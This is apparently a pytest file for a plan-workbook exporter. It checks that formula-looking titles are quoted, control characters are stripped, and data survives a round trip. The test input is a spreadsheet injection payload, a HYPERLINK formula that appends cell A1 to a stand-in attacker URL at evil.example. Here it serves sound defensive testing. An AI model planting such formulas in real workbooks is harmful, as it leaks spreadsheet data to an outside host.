"""The plan workbook quotes formula-looking texts and drops control characters, and reads its own quoting back (issue 11)."""

from __future__ import annotations

import io

import openpyxl

from aspiration.tracking.plan_xlsx import export_plan, import_plan

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_plan_export_has_no_formula_and_round_trips(world):
    world.action_a.title = FORMULA
    world.action_a.description = "Bell\x07 in the text"
    world.action_a.save()
    data = export_plan(world.plan)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in {c.value for c in cells}
    imported = import_plan(data, "FRA", title="Copy").plan
    assert imported.actions.filter(title=FORMULA, description="Bell in the text").exists()
